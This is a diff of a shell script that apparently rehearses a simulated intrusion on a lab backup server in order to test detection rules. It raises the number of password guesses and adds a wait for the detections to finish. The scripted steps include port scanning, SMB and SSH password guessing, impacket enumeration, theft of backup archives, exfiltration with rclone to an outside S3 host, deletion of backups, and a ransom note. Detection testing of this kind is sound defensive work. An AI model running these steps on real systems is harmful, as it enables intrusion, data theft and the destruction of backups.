@@ -87,20 +87,22 @@ step() {
   from=$(date +%s%3N)
   "$@" </dev/null >>"$WORK/out" 2>&1 || true
   printf '%s\t%s\t%s\t%s\n' "$from" "$(date +%s%3N)" "$expected" "$what" >>"$WORK/steps"
-  # Until detections have run over all of it, those on connections that have to end first included.
-  sleep 13
-  local ended=$(($(date +%s%3N) - 1000))
-  for _ in $(seq 60); do
+  sleep "${PAUSE:-13}"
+}
+# Until detections have run over all that was done.
+settle() {
+  local ended
+  ended=$(date +%s%3N)
+  for _ in $(seq 120); do
     node -e 'const s=JSON.parse(require("fs").readFileSync(process.argv[1]));process.exit(s.analysis.behindOctets===0&&Date.parse(s.analysis.evaluatedAt)-1000*s.analysis.evaluationSeconds>process.argv[2]?0:1)' \
-      "$CASE/evidence/live/status.json" "$ended" 2>/dev/null && break
+      "$CASE/evidence/live/status.json" "$((ended - 1000))" 2>/dev/null && break
     sleep 1
   done
 }
 smb() { on "$1" smbclient -s /dev/null //10.99.0.1/backups -U "$2" -c "$3"; }
 tool() { on intruder timeout 20 /usr/bin/python3 "/usr/share/doc/python3-impacket/examples/$1" "${@:2}"; }
-guess() { for n in $(seq 24); do "$@" "wrong-$n"; done; }
-smb_tool() { on intruder timeout 20 /usr/bin/python3 "/usr/share/doc/python3-impacket/examples/$1" "${@:2}"; }
-guess() { on intruder smbclient -s /dev/null //10.99.0.1/backups -U "backup-op%$1" -c ls; }
+guess() { for n in $(seq 34); do "$@" "wrong-$n"; done; }
+smb_guess() { on intruder smbclient -s /dev/null //10.99.0.1/backups -U "backup-op%$1" -c ls; }
 ssh_as() { on intruder sshpass -p "$1" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password \
   -o NumberOfPasswordPrompts=1 backup-op@10.99.0.1 "${2:-true}"; }
 ports() { on intruder bash -c 'for p in $(seq 20 30) 80 110 111 135 139 143 389 443 445 513 514 636 873 902 1433 1521 2049 3128 3260 3306 3389 5432 5900 5985 6379 8006 8080 8443 9000 9392 9401 9419 10000 10443; do timeout 0.3 bash -c "exec 3<>/dev/tcp/10.99.0.1/$p"; done'; }
@@ -114,10 +116,10 @@ nightly() { for n in 1 2 3 4 5 6; do smb backup 'backup-op%Repo-Pass-1' "cd jobs
     --s3-no-head --s3-endpoint http://10.99.0.1:9000 copy "$WORK" :s3:backups/veeam --include '*.vbk'; }
 step "BACKUP01 writes six archives by SMB and S3 (no intruder)" "" nightly
 step "Intruder tries 46 ports of the repository" "BT-DI-002" ports
-step "24 wrong SMB passwords, then the right one" "BT-CA-016" eval 'guess smb_guess; smb_guess Repo-Pass-1'
+step "34 wrong SMB passwords, then the right one" "BT-CA-016" eval 'guess smb_guess; smb_guess Repo-Pass-1'
 step "Shares and accounts listed: smbclient -L, impacket samrdump and netview" "BT-DI-004 BT-DI-006" eval \
   'on intruder smbclient -s /dev/null -L 10.99.0.1 -U backup-op%Repo-Pass-1; tool samrdump.py backup-op:Repo-Pass-1@10.99.0.1; tool netview.py -target 10.99.0.1 LAB/backup-op:Repo-Pass-1'
-step "24 wrong SSH passwords, then a session" "BT-CA-015 BT-LM-012" eval 'guess ssh_as; ssh_as Repo-Pass-1 "ls -la; df -h"'
+step "34 wrong SSH passwords, then a session" "BT-CA-015 BT-LM-012" eval 'guess ssh_as; ssh_as Repo-Pass-1 "ls -la; df -h"'
 step "Archives read by SMB" "BT-CO-001" smb intruder 'backup-op%Repo-Pass-1' "cd jobs; lcd $WORK/loot; prompt; mget FS01.vbk FS02.vbk FS03.vbk"
 step "An archive read over NFS" "BT-CO-001" on intruder nfs-cp "nfs://10.99.0.1/backups/jobs/FS04.vbk?version=3" "$WORK/loot/FS04.vbk"
 step "Loot sent outside with rclone to S3" "BT-EX-001" store http://203.0.113.50:9000 copy "$WORK/loot" :s3:drop/x
@@ -127,6 +129,7 @@ step "Archives deleted by SMB" "BT-TI-001" smb intruder 'backup-op%Repo-Pass-1' 
 step "A ransom note left by SMB" "BT-TI-038" eval 'echo pay >$WORK/how-to-get-back.txt; smb intruder backup-op%Repo-Pass-1 "put $WORK/how-to-get-back.txt how-to-get-back.txt"'
 step "Objects deleted with rclone" "BT-TI-012" store http://10.99.0.1:9000 delete :s3:backups/veeam
 
+settle
 kill -TERM "$RECORDING"
 wait "$RECORDING" || true
 node "$ROOT/scripts/rehearsal-table.js" "$WORK/steps" "$WORK/told"
